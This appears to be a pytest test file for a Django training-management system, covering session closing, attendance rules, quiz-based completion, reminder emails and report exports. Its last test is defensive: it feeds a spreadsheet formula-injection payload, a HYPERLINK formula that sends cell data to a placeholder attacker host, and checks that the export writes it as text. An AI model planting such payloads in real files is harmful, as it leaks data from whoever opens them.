import pytest
from django.core import mail
from django.urls import reverse

from lms.core.models import Role
from lms.training import services
from lms.training.models import Registration, RegistrationStatus, SessionStatus
from lms.training.signals import session_completed
from tests.factories.training import AttendanceFactory, RegistrationFactory, session_with_days


@pytest.fixture
def trainer(make_user, tree):
    return make_user(role=Role.TRAINER, agency=tree["province_a"], username="t_trainer")


def _mark(reg, days, statuses):
    for day, status in zip(days, statuses, strict=False):
        if status:
            AttendanceFactory(day=day, registration=reg, status=status)


def test_close_computes_attendance_and_sends_signal(tree, trainer):
    session = session_with_days(tree["commune_a1"], days=4, min_attendance_percent=75)
    days = list(session.days.all())
    full = RegistrationFactory(session=session)
    late = RegistrationFactory(session=session)
    excused = RegistrationFactory(session=session)
    invited = RegistrationFactory(session=session, status=RegistrationStatus.INVITED)
    _mark(full, days, ["present"] * 4)
    _mark(late, days, ["late", "late", "present", "absent"])
    _mark(excused, days, ["present", "excused", "excused", "present"])
    received = []

    def receiver(sender, registration, **kwargs):
        received.append(registration.pk)

    session_completed.connect(receiver)
    try:
        result = services.session_close(session=session, by=trainer)
    finally:
        session_completed.disconnect(receiver)
    assert result == {"registered": 3, "completed": 2}
    assert sorted(received) == sorted([full.pk, late.pk])
    full, late, excused, invited = (
        Registration.objects.get(pk=r.pk) for r in (full, late, excused, invited)
    )
    assert (full.completed, full.attendance_percent) == (True, 100)
    assert (late.completed, late.attendance_percent) == (True, 75)
    assert excused.completed is False and excused.attendance_percent == 50
    assert "50" in excused.completion_reason
    assert invited.completed is False
    session.refresh_from_db()
    assert session.status == SessionStatus.CLOSED and session.closed_by == trainer


def test_closed_session_is_final(tree, trainer):
    session = session_with_days(tree["commune_a1"], days=1)
    reg = RegistrationFactory(session=session)
    services.session_close(session=session, by=trainer)
    with pytest.raises(services.SessionFinal):
        services.session_close(session=session, by=trainer)
    with pytest.raises(services.SessionFinal):
        services.registration_cancel(registration=reg)
    session.refresh_from_db()
    with pytest.raises(services.SessionFinal):
        services.ensure_not_final(session)
    with pytest.raises(services.TrainingError):
        services.session_update(session=session, by=trainer, venue="Khác")


def test_post_test_rule_uses_quiz_passed_when_provided(tree, trainer, monkeypatch):
    from lms.quizzes import selectors as quiz_selectors
    from lms.quizzes.models import Quiz

    quiz = Quiz.objects.create(title="Kiểm tra cuối", slug="kiem-tra-cuoi")
    session = session_with_days(tree["commune_a1"], days=1, post_test=quiz)
    day = session.days.get()
    passed, failed = RegistrationFactory(session=session), RegistrationFactory(session=session)
    _mark(passed, [day], ["present"])
    _mark(failed, [day], ["present"])
    monkeypatch.setattr(
        quiz_selectors,
        "quiz_passed",
        lambda *, official, quiz: official.pk == passed.official_id,
        raising=False,
    )
    services.session_close(session=session, by=trainer)
    passed.refresh_from_db()
    failed.refresh_from_db()
    assert passed.completed is True and passed.post_test_passed is True
    assert failed.completed is False and failed.post_test_passed is False


def test_without_quiz_engine_rule_is_attendance_only(tree, trainer, monkeypatch):
    from lms.quizzes import selectors as quiz_selectors
    from lms.quizzes.models import Quiz

    monkeypatch.delattr(quiz_selectors, "quiz_passed", raising=False)
    quiz = Quiz.objects.create(title="Kiểm tra", slug="kiem-tra")
    session = session_with_days(tree["commune_a1"], days=1, post_test=quiz)
    reg = RegistrationFactory(session=session)
    _mark(reg, list(session.days.all()), ["present"])
    services.session_close(session=session, by=trainer)
    reg.refresh_from_db()
    assert reg.completed is True and reg.post_test_passed is None


def test_close_view_confirms_then_closes(client, tree, trainer):
    session = session_with_days(tree["commune_a1"], days=1)
    client.force_login(trainer)
    url = reverse("training:session_close", args=[session.pk])
    assert client.get(url).status_code == 200
    session.refresh_from_db()
    assert session.status == SessionStatus.OPEN
    client.post(url, {"confirm": "on"})
    session.refresh_from_db()
    assert session.status == SessionStatus.CLOSED


def test_reminders_sent_once_for_tomorrow(tree, django_capture_on_commit_callbacks):
    from lms.training.tasks import send_reminders

    session = session_with_days(tree["commune_a1"], days=2)  # 01/12/2026 and 02/12/2026
    reg = RegistrationFactory(session=session)
    RegistrationFactory(session=session, status=RegistrationStatus.CANCELLED)
    with django_capture_on_commit_callbacks(execute=True):
        assert send_reminders("2026-11-29") == 0
        assert send_reminders("2026-11-30") == 1
        assert send_reminders("2026-11-30") == 0
        assert send_reminders("2026-12-01") == 1  # the second day gets its own reminder
    assert [m.to for m in mail.outbox] == [[reg.official.email]] * 2
    assert "01/12/2026" in mail.outbox[0].body


def test_reports_query_count_and_exports(client, tree, trainer, django_assert_max_num_queries):
    from openpyxl import load_workbook
    from pypdf import PdfReader

    session = session_with_days(tree["commune_a1"], days=2, title="Lớp tập huấn Đánh giá nội bộ")
    days = list(session.days.all())
    for i in range(6):
        reg = RegistrationFactory(
            session=session, agency=tree["commune_a1"] if i % 2 else tree["commune_a2"]
        )
        _mark(reg, days, ["present", "late" if i % 3 else "absent"])
    client.force_login(trainer)
    with django_assert_max_num_queries(16):
        response = client.get(reverse("training:session_report", args=[session.pk]))
    assert response.status_code == 200
    by_day = response.context["by_day"]
    assert by_day[0]["present"] == 6
    assert by_day[1]["late"] + by_day[1]["absent"] == 6
    assert {r["agency__name"] for r in response.context["by_agency"]} == {"Xã A1", "Xã A2"}

    response = client.get(reverse("training:session_report_xlsx", args=[session.pk]))
    wb = load_workbook(__import__("io").BytesIO(response.content))
    assert wb.worksheets[0]["A1"].value == "Lớp tập huấn Đánh giá nội bộ"
    assert wb.worksheets[0].max_row == 4 + 6

    response = client.get(reverse("training:session_report_pdf", args=[session.pk]))
    assert response["Content-Type"] == "application/pdf"
    text = PdfReader(__import__("io").BytesIO(response.content)).pages[0].extract_text()
    assert "Đánh giá nội bộ" in text


def test_report_compares_pre_and_post_tests(tree, monkeypatch):
    from lms.quizzes import selectors as quiz_selectors
    from lms.quizzes.models import Quiz
    from lms.training.selectors import session_report

    pre = Quiz.objects.create(title="Đầu vào", slug="dau-vao")
    post = Quiz.objects.create(title="Đầu ra", slug="dau-ra")
    session = session_with_days(tree["commune_a1"], days=1, pre_test=pre, post_test=post)
    a, b = RegistrationFactory(session=session), RegistrationFactory(session=session)
    scores = {
        pre.pk: {a.official_id: 40, b.official_id: 60},
        post.pk: {a.official_id: 80, b.official_id: 90},
    }
    monkeypatch.setattr(
        quiz_selectors, "results_for", lambda *, quiz, official_ids: scores[quiz.pk], raising=False
    )
    # The pre-test counts the first attempt within the session (test_pre_post_tests.py).
    monkeypatch.setattr(
        quiz_selectors, "first_results", lambda *, quiz, official_ids, **window: scores[quiz.pk]
    )
    report = session_report(session)
    gains = {r["official"].pk: r["gain"] for r in report["rows"]}
    assert gains == {a.official_id: 40, b.official_id: 30}
    assert report["pre_mean"] == 50 and report["post_mean"] == 85


def test_report_xlsx_writes_formula_like_text_as_text(tree):
    import io
    import zipfile

    from openpyxl import load_workbook

    from lms.training.reports import report_xlsx
    from lms.training.selectors import session_report

    payload = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    session = session_with_days(tree["commune_a1"], days=1, title=payload)
    names = [payload, "+84 912", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
    for name in names:
        RegistrationFactory(session=session, official__full_name=name)
    content = report_xlsx(session_report(session))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert (sheet["A1"].value, sheet["A1"].data_type) == (payload, "s")
    cells = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1) for r in range(5, 11)}
    # Depending on the XML writer (lxml or the standard library) a CR comes back as CR or as LF;
    # either way the cell is still text.
    assert sorted(v.replace("\r", "\n") for v in cells) == sorted(
        n.replace("\r", "\n") for n in names
    )
    for cell in cells.values():
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
